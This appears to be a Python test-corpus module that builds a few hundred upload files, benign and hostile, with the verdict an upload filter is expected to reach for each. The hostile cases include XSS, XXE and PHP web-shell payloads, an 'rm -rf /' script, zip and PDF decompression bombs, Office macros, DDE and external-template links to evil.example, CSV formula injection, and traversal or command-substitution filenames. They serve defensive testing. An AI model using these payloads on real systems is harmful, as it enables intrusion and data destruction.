"""
The corpus of uploads (A-43): some three hundred files, made by code, with what has to become of each.

`verdict` is the type a file is kept as, or the code of its refusal, or several of them where both are right.
The first of each family runs every day (`daily`), the others in the long run.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from desk.safety import kinds
from tests.desk import papers
from tests.desk.clamd import EICAR
from tests.desk.corpus_papers import acting_papers, annotated, broken_papers
from tests.desk.papers import SHEET, TYPES, W, office_file, pdf, picture, workbook

PDF, PNG, JPEG, TEXT, CSV, DOCX, XLSX = (each.media_type for each in kinds.TAKEN.values())
TAKEN = frozenset(kinds.TAKEN)
Name, Dictionary, Array, Stream = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream


@dataclass(frozen=True)
class Case:
    name: str
    made: bytes | Callable[[], bytes]  # what takes long to make is made when it is sent
    verdict: frozenset[str]
    family: str
    daily: bool = False
    filename: str = ""

    @property
    def body(self) -> bytes:
        return self.made if isinstance(self.made, bytes) else self.made()

    @property
    def called(self) -> str:
        return self.filename or self.name


def cases() -> Iterator[Case]:
    for family in FAMILIES:
        first = True
        for name, body, verdict, *more in family():
            wanted = frozenset({verdict} if isinstance(verdict, str) else verdict)
            yield Case(name, body, wanted, family.__name__, first, *more)
            first = False


def honest():
    yield "policy.pdf", pdf(pages=3), PDF
    yield "photo.jpg", picture("JPEG", (800, 600)), JPEG
    yield "logo.png", picture("PNG", mode="RGBA"), PNG
    yield "gray.png", picture("PNG", mode="L"), PNG
    yield "bits.png", picture("PNG", mode="1"), PNG
    yield "palette.png", picture("PNG", mode="P"), PNG
    yield "deep.png", picture("PNG", mode="I;16"), PNG
    yield "cmyk.jpg", picture("JPEG", mode="CMYK"), JPEG
    yield "progressive.jpg", picture("JPEG", (300, 200), progressive=True), JPEG
    yield "fax.tif", papers.fax(4), PDF
    yield "scan.tiff", picture("TIFF", (400, 500), mode="L"), PDF
    yield "small.tif", picture("TIFF", (20, 20)), PDF
    yield "notes.txt", "Café at 9, naïve, 日本語, 👩‍⚕️.\n".encode(), TEXT
    yield "windows.txt", "Café “quoted” – dash".encode("cp1252"), TEXT
    yield "utf16.txt", "Hello, Müller".encode("utf-16"), TEXT
    yield "with-bom.txt", b"\xef\xbb\xbfHello", TEXT
    yield "fees.csv", b"code,fee\n99213,92.50\n99214,-5\n", CSV
    yield "semicolons.csv", "name;amount\nMüller;3,50\n".encode("cp1252"), CSV
    yield "lease.docx", office_file(), DOCX
    yield "stock.xlsx", workbook(), XLSX
    yield "no-ending", pdf(), PDF
    yield "BMI of the last visits.txt", b"BMI of the last visits was 22.", TEXT
    yield "from.txt", b"Fromm's note: MZ and BM are initials.", TEXT
    yield "letters.pdf", pdf(pages=12), PDF
    yield "link.pdf", pdf(change=annotated({"/S": "/URI", "/URI": "https://example.org/"})), PDF
    yield "objects.pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), PDF
    yield "linear.pdf", pdf(linearize=True), PDF
    yield "restricted.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="boss")), PDF


def nothing():
    yield "empty.pdf", b"", "empty"
    yield "empty.txt", b"", "empty"
    yield "zeros.bin", bytes(1000), "empty"
    yield "blank.txt", b" \r\n\t ", "empty"
    yield "one-byte", b"\x00", "empty"


def web_pages():
    """Markup that a browser would run, under every name it could come by."""
    pages = [
        b"<html><script>alert(1)</script></html>", b"<!DOCTYPE html><p>Hi", b"  \n<HTML>", b"<script>alert(1)</script>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", b"<?xml version='1.0'?><svg onload='x'/>",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", b"<body onload=x>",
        b"<iframe src=javascript:alert(1)>", b"<!-- x --><script>1</script>", b"<?php system($_GET['c']); ?>",
        b"<% eval request('x') %>", b"\xef\xbb\xbf<html>", "<html>".encode("utf-16"), b"<math><mtext></mtext></math>",
        b"text first <script>alert(1)</script>", b"<a href='javascript:x'>y</a>", b"<img src=x onerror=alert(1)>",
    ]  # fmt: skip
    for number, body in enumerate(pages):
        for ending in ("jpg", "pdf", "txt") if number < 4 else ("html", "csv"):
            yield f"page {number}.{ending}", body, ("html", "program")


def programs():
    for ending in ("exe", "pdf", "txt"):
        yield f"mz.{ending}", b"MZ\x90\x00\x03" + bytes(100), "program"
    yield "elf.jpg", b"\x7fELF\x02\x01\x01" + bytes(60), "program"
    yield "script.txt", b"#!/bin/sh\nrm -rf /\n", "program"
    yield "java.png", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(60), "program"
    yield "mach.pdf", b"\xcf\xfa\xed\xfe" + bytes(60), "program"
    yield "shortcut.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), "program"
    yield "module.wasm", b"\x00asm\x01\x00\x00\x00" + bytes(20), "program"
    yield "flash.swf", b"CWS\x0a" + bytes(60), "program"
    yield "dex.apk", b"dex\n035\x00" + bytes(60), "program"


def other_kinds():
    """What exists, is harmless or not, and is not kept here."""
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    for ending in ("doc", "xls", "ppt", "msg"):
        yield f"old.{ending}", old, "old-office"
    yield "rich.rtf", rb"{\rtf1\ansi{\object\objemb}}", "old-office"
    archives = {
        "rar": b"Rar!\x1a\x07\x01\x00", "7z": b"7z\xbc\xaf\x27\x1c", "gz": b"\x1f\x8b\x08\x00", "bz2": b"BZh91AY\x00",
        "xz": b"\xfd7zXZ\x00", "zst": b"\x28\xb5\x2f\xfd", "cab": b"MSCF\x00\x00", "a": b"!<arch>\n",
        "tar": bytes(257).replace(b"\x00", b"x") + b"ustar\x00", "empty.zip": b"PK\x05\x06" + bytes(18),
    }  # fmt: skip
    for ending, body in archives.items():
        yield f"archive.{ending}", body + bytes(50), "archive"
    pictures = {
        "gif": b"GIF89a\x01\x00\x01\x00" + bytes(20), "bmp": b"BM\x36\x00\x00\x00" + bytes(50),
        "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 ", "psd": b"8BPS\x00\x01" + bytes(30), "ico": b"\x00\x00\x01\x00\x01\x00",
        "jp2": b"\x00\x00\x00\x0cjP  \r\n\x87\n", "ps": b"%!PS-Adobe-3.0\n", "exr": b"\x76\x2f\x31\x01\x02\x00",
        "bigtiff.tif": b"II+\x00\x08\x00", "avif": b"\x00\x00\x00\x20ftypavif" + bytes(20),
    }  # fmt: skip
    for ending, body in pictures.items():
        yield f"picture.{ending}", body, "picture"
    for brand in (b"heic", b"heix", b"mif1", b"hevc"):
        yield f"photo-{brand.decode()}.jpg", b"\x00\x00\x00\x18ftyp" + brand + bytes(20), "heic"
    media = {
        "mp3": b"ID3\x04\x00" + bytes(20), "mp4": b"\x00\x00\x00\x18ftypisom" + bytes(20), "ogg": b"OggS\x00\x02",
        "webm": b"\x1aE\xdf\xa3\x01\x00", "wav": b"RIFF\x24\x00\x00\x00WAVEfmt ", "flac": b"fLaC\x00\x00",
        "raw.mp3": b"\xff\xfb\x90\x00" + bytes(20),
    }  # fmt: skip
    for ending, body in media.items():
        yield f"media.{ending}", body, "media"
    yield "mail.eml", b"Received: from x\r\nSubject: y\r\n\r\nz", "mail"
    yield "mail2.txt", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html>", "mail"
    rnd = random.Random(43)
    for number in range(8):
        yield f"noise {number}.bin", b"\x01" + rnd.randbytes(3000), "not-text"
    yield "controls.txt", bytes(range(1, 32)) * 30, ("not-text", "program", TEXT)


def disguises():
    """One thing by its name, another by its contents: the contents decide, and the name follows them."""
    bodies = {
        PDF: pdf(),
        PNG: picture(),
        JPEG: picture("JPEG"),
        TEXT: b"plain words",
        DOCX: office_file(),
    }
    endings = ("exe", "html", "svg", "php", "pdf.exe", "jpg", "docm", "txt", "js")
    for kind, body in bodies.items():
        for ending in endings:
            yield f"disguise.{ending}", body, kind


def polyglots():
    """Two things at once: what is kept was written anew, so the other half is gone."""
    script = b"<script>alert('polyglot')</script><?php system('id'); ?>"
    yield "pdf+html.pdf", pdf() + b"\n" + script, PDF
    yield "jpeg+php.jpg", picture("JPEG") + script, JPEG
    yield "jpeg-comment.jpg", picture("JPEG", comment=script), JPEG
    yield "png+html.png", picture() + script, PNG
    text = papers.chunk(b"tEXt", b"Comment\x00" + script)
    yield "png-text.png", picture()[:33] + text + picture()[33:], PNG
    yield "png-odd-chunk.png", picture()[:33] + papers.chunk(b"evIl", script) + picture()[33:], PNG
    yield "jpeg+zip.jpg", picture("JPEG") + papers.zipped({"x.js": script}), JPEG
    yield "png+pdf.png", picture() + pdf(), PNG
    yield "docx+html.docx", office_file() + script, (DOCX, "damaged")
    yield "pdf+zip.pdf", pdf() + papers.zipped({"x.exe": b"MZ"}), PDF
    yield "html+pdf.pdf", b"<html>" + pdf(), "html"
    yield "words+pdf.pdf", b"Some words before\n" + pdf(), "not-at-start"
    yield "gif+js.gif", b"GIF89a/*\x00\x00*/=1;alert(1)//" + bytes(30), "picture"
    yield "exif.jpg", picture("JPEG", exif=_exif(script)), JPEG
    yield "icc.jpg", picture("JPEG", icc_profile=script * 4), JPEG
    yield (
        "xmp.png",
        picture()[:33]
        + papers.chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + script)
        + picture()[33:],
        PNG,
    )
    yield "tiff+html.tif", picture("TIFF") + script, PDF
    yield "tiff-tag.tif", picture("TIFF", description="<script>alert('polyglot')</script>"), PDF


def _exif(words):
    exif = Image.Exif()
    exif[0x010E] = words.decode()
    exif.get_ifd(0x8825)[1] = "N"
    return exif


def bombs():
    """Small outside, huge inside, long to read: within ten seconds and half a gigabyte, or refused."""
    yield "stream bomb.pdf", lambda: _stream_bomb(1), "bomb"
    yield "ten thousand pages.pdf", lambda: _many_pages(10_000), "too-many-pages"
    yield "twice packed.pdf", lambda: _stream_bomb(2), "bomb"
    yield "ten filters.pdf", lambda: _stream_bomb(10), "bomb"
    yield "wide picture.pdf", lambda: pdf(change=_wide_picture), "bomb"
    yield "many objects.pdf", lambda: _many_objects(), ("bomb", "too-long", "too-much")
    yield "pixel bomb.png", lambda: papers.png_of(50_000, 50_000), "too-many-pixels"
    yield "wide.png", lambda: papers.png_of(2_000_000_000, 1), ("too-many-pixels", "damaged")
    yield (
        "packed pixels.png",
        lambda: papers.png_of(9_000, 9_000, zlib.compress(bytes(9_000 * 9_000))),
        "too-many-pixels",
    )
    yield (
        "lying.png",
        lambda: papers.png_of(100, 100, zlib.compress(bytes(60_000_000))),
        ("damaged", PNG),
    )
    yield "empty pixels.png", lambda: papers.png_of(6_000, 6_000), ("damaged", "too-much")
    yield "text bomb.png", _text_bomb, (PNG, "damaged")
    yield "huge.jpg", lambda: picture("JPEG", (9_000, 9_000), mode="L"), "too-many-pixels"
    yield (
        "huge.tif",
        lambda: picture("TIFF", (30_000, 30_000), mode="1", compression="group4"),
        "too-many-pixels",
    )
    yield "zip bomb.docx", lambda: office_file({"word/media/x.xml": bytes(200_000_000)}), "bomb"
    yield (
        "many parts.docx",
        lambda: office_file({f"word/x{n}.xml": "x" for n in range(3_000)}),
        "bomb",
    )
    yield (
        "nested.docx",
        lambda: office_file({"word/embeddings/x.zip": papers.zipped({"y": bytes(10_000)})}),
        "embedded",
    )
    yield "overlap.zip", lambda: _overlapping(), ("bomb", "archive", "damaged")
    yield "long.txt", lambda: b"words and words " * 100_000, TEXT
    yield "one line.csv", lambda: b"x," * 500_000, (CSV, TEXT)
    yield "wide cell.csv", lambda: b'"' + b"x" * 300_000 + b'"\n', TEXT
    yield (
        "laughs.docx",
        lambda: office_file(
            {"word/x.xml": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'}
        ),
        "embedded",
    )
    yield "frames.png", lambda: _frames(), PNG
    yield "many leaves.tif", lambda: papers.fax(40), PDF


def _text_bomb():
    text = papers.chunk(b"zTXt", b"x\x00\x00" + zlib.compress(bytes(80_000_000)))
    return picture()[:33] + text + picture()[33:]


def _stream_bomb(stages):
    body = bytes(1_000_000 if stages > 2 else 200_000_000)
    for _ in range(stages):
        body = zlib.compress(body, 9)

    def change(paper):
        bomb = Stream(paper, body)
        names = [Name.FlateDecode] * stages
        bomb["/Filter"] = names[0] if stages == 1 else Array(names)
        paper.pages[0].obj["/Contents"] = paper.make_indirect(bomb)

    return pdf(
        change=change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
    )


def _many_pages(count):
    paper = pikepdf.new()
    for _ in range(count):
        paper.add_blank_page()
    return papers.saved(paper)


def _wide_picture(paper):
    wide = Stream(paper, zlib.compress(b"x"))
    wide["/Type"], wide["/Subtype"], wide["/Filter"] = Name.XObject, Name.Image, Name.FlateDecode
    wide["/Width"], wide["/Height"], wide["/BitsPerComponent"], wide["/ColorSpace"] = (
        100_000,
        100_000,
        8,
        Name.DeviceRGB,
    )
    paper.pages[0].Resources["/XObject"] = Dictionary(X=paper.make_indirect(wide))


def _many_objects():
    lines = [
        b"%PDF-1.4",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/X["
        + b" ".join(b"%d 0 R" % n for n in range(4, 400_000))
        + b"]>>endobj",
    ]
    lines += [
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj",
    ]
    lines += [b"%d 0 obj<<>>endobj" % number for number in range(4, 400_000)]
    return b"\n".join([*lines, b"trailer<</Root 1 0 R/Size 400000>>"])


def _overlapping():
    """Two entries that point to one body, and say it is longer than it is."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", bytes(50_000_000))
    return out.getvalue()


def _frames():
    out = io.BytesIO()
    leaves = [Image.new("RGB", (50, 50), (number, 0, 0)) for number in range(20)]
    leaves[0].save(out, "PNG", save_all=True, append_images=leaves[1:])
    return out.getvalue()


def office_tricks():
    macro_types = TYPES.format(
        part="word/document.xml", type="ms-word.document.macroEnabled.main+xml"
    )
    yield (
        "macro.docm",
        office_file({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, types=macro_types),
        "macros",
    )
    yield "macro.docx", office_file({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"
    yield "declared.docx", office_file(types=macro_types), "macros"
    yield "macro.xlsx", workbook({"xl/vbaProject.bin": b"x"}), "macros"
    yield "sheet4.xlsx", workbook({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"
    yield "control.docx", office_file({"word/activeX/activeX1.xml": "<x/>"}), "macros"
    for name in (
        "word/embeddings/oleObject1.doc",
        "word/x.exe",
        "word/media/run.js",
        "word/a.vbs",
        "word/b.hta",
    ):
        yield f"inside {name[-4:]}.docx", office_file({name: b"x"}), "embedded"
    outside = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{to}" '
        'TargetMode="External"/></Relationships>'
    )
    for kind, to, verdict in [
        ("attachedTemplate", "http://evil.example/x.dotm", "reaches-out"),
        ("image", "http://evil.example/x.png", "reaches-out"),
        ("oleObject", "file://evil/x", "reaches-out"), ("frame", "http://evil.example/", "reaches-out"),
        ("hyperlink", "file:///c:/windows/calc.exe", "reaches-out"), ("hyperlink", "https://example.org/", DOCX),
        ("hyperlink", "mailto:a@example.org", DOCX), ("hyperlink", "javascript:alert(1)", "reaches-out"),
    ]:  # fmt: skip
        yield (
            f"{kind} {to[:12].replace('/', ' ')}.docx",
            office_file({"word/_rels/document.xml.rels": outside.format(kind=kind, to=to)}),
            verdict,
        )
    field = f"<w:p {W}><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"
    yield "dde.docx", office_file({"word/footer1.xml": field}), "reaches-out"
    yield (
        "external.xlsx",
        workbook(
            {"xl/externalLinks/externalLink1.xml": "<externalLink><externalBook/></externalLink>"}
        ),
        "reaches-out",
    )
    yield (
        "xxe.xlsx",
        workbook({"xl/x.xml": "<!DOCTYPE x SYSTEM 'file:///etc/passwd'><x/>"}),
        "embedded",
    )
    yield (
        "utf16.docx",
        office_file({"word/x.xml": "<!DOCTYPE x><x/>".encode("utf-16-be")}),
        "damaged",
    )
    for name in ("../../etc/cron.d/x", "/etc/passwd", "word\\..\\x", "word/../../x.xml"):
        yield f"slip {len(name)}.docx", office_file({name: "x"}), "damaged"
    yield "plain.zip", papers.zipped({"a.txt": b"words"}), "archive"
    yield (
        "jar.jar",
        papers.zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}),
        "archive",
    )
    yield (
        "open.odt",
        papers.zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}),
        "archive",
    )
    yield (
        "slides.pptx",
        office_file(kind="openxmlformats-officedocument.presentationml.presentation.main+xml"),
        "archive",
    )
    yield (
        "both.docx",
        office_file({"[Content_Types].xml": TYPES.format(part="a", type=WORD_AND_SHEET)}),
        "archive",
    )
    yield "cut.docx", office_file()[:200], "damaged"
    yield "no directory.docx", b"PK\x03\x04" + bytes(300), "damaged"
    yield "locked.docx", _locked(), ("encrypted", "damaged")
    yield (
        "metadata.docx",
        office_file(
            {"docProps/core.xml": "<a>canary</a>", "docProps/thumbnail.jpeg": picture("JPEG")}
        ),
        DOCX,
    )
    yield "printer.xlsx", workbook({"xl/printerSettings/printerSettings1.bin": b"canary"}), XLSX
    twice = io.BytesIO(office_file())
    yield "prefixed.docx", b"#!/bin/sh\n" + twice.getvalue(), "program"


WORD_AND_SHEET = f'{papers.WORD}"/><Override PartName="/b" ContentType="application/vnd.{SHEET}'


def _locked():
    """The flag of an encrypted entry, in both places where it stands."""
    body = bytearray(office_file())
    at = body.find(b"PK\x01\x02")
    body[6] |= 1
    while at >= 0:
        body[at + 8] |= 1
        at = body.find(b"PK\x01\x02", at + 1)
    return bytes(body)


def formulas():
    starts = [
        "=1+1",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "＝1+1",
        "  =1",
        '=HYPERLINK("http://x")',
        "%0A=1",
        "|x",
    ]
    for number, cell in enumerate(starts):
        yield (
            f"formula {number}.csv",
            f'name,amount\nAna,"{cell.replace(chr(34), chr(34) * 2)}"\n'.encode(),
            CSV,
        )
    yield "eicar.txt", EICAR, TEXT
    yield "eicar.pdf", EICAR, TEXT
    yield "bidi.txt", "safe \u202eexe.txt \u2066x\u2069".encode(), TEXT
    yield "nul in text.txt", b"words \x00 more", "not-text"
    yield (
        "escape.txt",
        b"\x1b]0;owned\x07 words, and more words, and enough of them to be read as a text",
        TEXT,
    )


def names():
    body = b"Only the name is odd."
    odd = [
        "../../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "C:\\fakepath\\x.txt", "x" * 400 + ".txt", "",
        ".", "..", "CON", "nul.txt", "invoice\u202efdp.exe", "a\x00b.txt", "a\nb.txt", "a\r\nSet-Cookie: x=1.txt",
        "<script>alert(1)</script>.txt", "\"; filename=\"evil.exe", "' OR 1=1 --.txt", "{{7*7}}.txt", "%2e%2e%2fx",
        "名前.txt", "é" * 200 + ".txt", "👩‍⚕️.txt", ".htaccess", "x.php;.txt", "x.txt::$DATA", "\ud800.txt", "a/b/c.txt",
        "x.tar.gz", "-rf.txt", "$(id).txt", "`id`.txt", "|id", "x.txt ", "x.txt.", "\u200b\u200b.txt",
    ]  # fmt: skip
    for name in odd:
        yield f"name {odd.index(name)}", body, TEXT, name


def bitten_pictures():
    rnd = random.Random(11)
    for form in ("PNG", "JPEG", "TIFF"):
        whole = picture(form, (200, 150))
        for number in range(6):
            bad = bytearray(whole)
            for _ in range(20):
                bad[rnd.randrange(8, len(bad))] = rnd.randrange(256)
            yield (
                f"bitten {number}.{form.lower()}",
                bytes(bad),
                (PNG, JPEG, PDF, "damaged", "too-many-pixels", "too-much", "too-many-pages"),
            )
        yield (
            f"cut.{form.lower()}",
            whole[: len(whole) // 2],
            (PDF, "damaged") if form == "TIFF" else "damaged",
        )
        yield f"head.{form.lower()}", whole[:12], "damaged"
    yield "loop.tif", _loop(), ("damaged", PDF, "too-many-pages", "too-long", "too-much")
    yield "zero.png", papers.png_of(0, 0), "damaged"


def _loop():
    """A TIFF whose second page is its first."""
    body = bytearray(picture("TIFF", (20, 20)))
    at = struct.unpack("<I", body[4:8])[0]
    count = struct.unpack("<H", body[at : at + 2])[0]
    body[at + 2 + 12 * count : at + 6 + 12 * count] = struct.pack("<I", at)
    return bytes(body)


FAMILIES = (
    honest, nothing, web_pages, programs, other_kinds, disguises, polyglots, acting_papers, broken_papers, bombs,
    office_tricks, formulas, names, bitten_pictures,
)  # fmt: skip
